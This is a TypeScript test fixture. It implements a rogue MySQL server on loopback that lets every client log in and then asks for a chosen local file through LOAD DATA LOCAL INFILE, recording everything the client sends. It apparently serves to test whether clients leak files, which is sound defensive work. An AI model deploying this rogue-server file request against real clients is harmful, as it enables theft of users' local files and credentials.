import { createServer, type Socket } from 'node:net';

import { listenOnLoopback, type LoopbackServer } from '../loopback-server.js';

/** When a server asks for a file of its client (`LOAD DATA LOCAL INFILE`). */
export type FileRequest = 'instead of a login' | 'after the login' | 'as the answer to a statement';

/** A server that lets everybody in and asks for a file. */
export interface FileThief extends LoopbackServer {
  /** All that clients sent, the login too. */
  received(): Buffer;
  /** The capabilities that the last client declared. */
  capabilities(): number;
}

/** https://dev.mysql.com/doc/dev/mysql-server/latest/group__group__cs__capabilities__flags.html */
export const CLIENT_LOCAL_FILES = 0x80;
/** Protocol 4.1, secure connection, plugin authentication, connect with database, local files. */
const CAPABILITIES = 0x0200 | 0x8000 | 0x0008 | CLIENT_LOCAL_FILES | 0x00080000;
const OK = Buffer.from([0, 0, 0, 2, 0, 0, 0]);
const WANT_FILE = 0xfb;

/** Starts a server that asks every client for the file of this path. */
export async function startFileThief(when: FileRequest, path: string): Promise<FileThief> {
  let received = Buffer.alloc(0);
  let capabilities = 0;
  const wish = Buffer.concat([Buffer.from([WANT_FILE]), Buffer.from(path)]);
  const server = createServer((socket) => {
    socket.on('error', () => undefined);
    send(socket, 0, greeting());
    let loggedIn = false;
    socket.on('data', (bytes: Buffer) => {
      received = Buffer.concat([received, bytes]);
      const sequence = bytes[3] ?? 0;
      if (loggedIn) {
        send(socket, sequence + 1, wish);
        return;
      }
      loggedIn = true;
      capabilities = bytes.readUInt32LE(4);
      if (when !== 'instead of a login') send(socket, sequence + 1, OK);
      if (when !== 'as the answer to a statement') send(socket, sequence + 2, wish);
    });
  });
  return {
    ...(await listenOnLoopback(server)),
    received: () => received,
    capabilities: () => capabilities,
  };
}

function send(socket: Socket, sequence: number, body: Buffer): void {
  const header = Buffer.alloc(4);
  header.writeUIntLE(body.length, 0, 3);
  header[3] = sequence & 0xff;
  socket.write(Buffer.concat([header, body]));
}

/** https://dev.mysql.com/doc/dev/mysql-server/latest/page_protocol_connection_phase_packets_protocol_handshake_v10.html */
function greeting(): Buffer {
  const capabilities = Buffer.alloc(4);
  capabilities.writeUInt32LE(CAPABILITIES);
  return Buffer.concat([
    Buffer.from([10]),
    Buffer.from('8.0.0\0'),
    Buffer.from([1, 0, 0, 0]),
    Buffer.alloc(8, 'a'),
    Buffer.from([0]),
    capabilities.subarray(0, 2),
    Buffer.from([45, 2, 0]),
    capabilities.subarray(2),
    Buffer.from([21]),
    Buffer.alloc(10),
    Buffer.from('b'.repeat(12) + '\0'),
    Buffer.from('mysql_native_password\0'),
  ]);
}
